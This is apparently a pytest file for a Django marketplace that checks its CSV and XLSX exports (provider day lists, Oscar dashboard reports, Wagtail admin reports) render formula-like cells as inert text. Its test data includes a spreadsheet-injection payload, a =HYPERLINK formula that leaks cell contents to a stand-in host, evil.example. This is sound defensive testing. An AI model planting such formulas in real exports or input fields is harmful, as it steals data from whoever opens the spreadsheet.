"""No CSV the site hands out can run a formula in the spreadsheet that opens it (issue 18, item 4):
a resident named ``=HYPERLINK(…)`` with a note ``@SUM(1)`` reads as that text in the provider's
day list, the district's Oscar dashboard exports and Wagtail's admin reports."""

import csv
import io

import pytest
from django.urls import reverse
from oscar.core.loading import get_model

from marketplace.booking import services
from marketplace.spreadsheet import spreadsheet_safe
from marketplace.users.services import add_dependant
from tests.conftest import PASSWORD, later_today
from tests.providers.console.test_day_views import today

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
EVIL_NOTE = "@SUM(1)"

UserRecord = get_model("analytics", "UserRecord")


def rows_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("   =1+1", "'   =1+1"),
        ("\u3000=1", "'\u3000=1"),
        ("＝1+1", "'＝1+1"),
        ("张三", "张三"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_a_cell_that_would_start_a_formula_is_text(cell, shown):
    assert spreadsheet_safe(cell) == shown


@pytest.fixture
def evil_resident(make_user):
    return make_user(email="=1+2@example.com", name=EVIL_NAME, phone="13812345678")


@pytest.mark.usefixtures("daytime")  # the day's list needs a booking later today
def test_the_providers_day_csv_shows_a_formula_name_and_note_as_text(
    client, staff, provider, offering, make_slot, evil_resident
):
    dependant = add_dependant(evil_resident, name="-2+3", relation="parent", phone="")
    booking = services.book(
        evil_resident, make_slot(offering, starts_in=later_today()).pk, note=EVIL_NOTE, dependant=dependant.pk
    )
    client.force_login(staff)

    rows = rows_of(client.get(f"/provider/{provider.pk}/day.csv", {"date": today().isoformat()}))

    _time, _service, code, name, dependant_cell, _phone, note, _status, _channel = rows[1]
    assert code == booking.code
    assert name == "'" + EVIL_NAME
    assert dependant_cell.startswith("'-2+3")
    assert note == "'" + EVIL_NOTE


def test_oscar_dashboards_order_csv_shows_a_formula_email_as_text(
    client, admin_user, offering, make_slot, evil_resident
):
    booking = services.book(evil_resident, make_slot(offering).pk)
    client.login(email=admin_user.email, password=PASSWORD)

    response = client.get(reverse("dashboard:order-list"), {"response_format": "csv"})

    assert response["Content-Type"].startswith("text/csv")
    rows = {row[0]: row for row in rows_of(response)[1:]}
    assert rows[booking.code][5] == "'=1+2@example.com"


def test_oscar_dashboards_reports_show_a_formula_name_as_text(client, admin_user, evil_resident):
    UserRecord.objects.create(user=evil_resident)
    client.login(email=admin_user.email, password=PASSWORD)

    response = client.get(reverse("dashboard:reports-index"), {"report_type": "user_analytics", "download": "true"})

    assert response["Content-Type"].startswith("text/csv")
    email, name = rows_of(response)[1][:2]
    assert (email, name) == ("'=1+2@example.com", "'" + EVIL_NAME)


def test_wagtails_admin_reports_show_a_formula_title_as_text(client, admin_user, home_page):
    from cms.models import StandardPage

    page = home_page.add_child(instance=StandardPage(title=EVIL_NAME, slug="evil", live=False))
    page.save_revision().publish()
    client.login(email=admin_user.email, password=PASSWORD)

    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})

    assert response.status_code == 200
    titles = [row[0] for row in rows_of(response)[1:]]
    assert "'" + EVIL_NAME in titles
    assert EVIL_NAME not in titles


def test_wagtails_xlsx_export_keeps_a_formula_title_a_text_cell(client, admin_user, home_page):
    from openpyxl import load_workbook

    from cms.models import StandardPage

    page = home_page.add_child(instance=StandardPage(title=EVIL_NAME, slug="evil", live=False))
    page.save_revision().publish()
    client.login(email=admin_user.email, password=PASSWORD)

    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "xlsx"})

    sheet = load_workbook(
        io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
    ).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    evil = next(cell for cell in cells if cell.value == EVIL_NAME)
    assert evil.data_type == "s"  # a text cell: shown, never evaluated
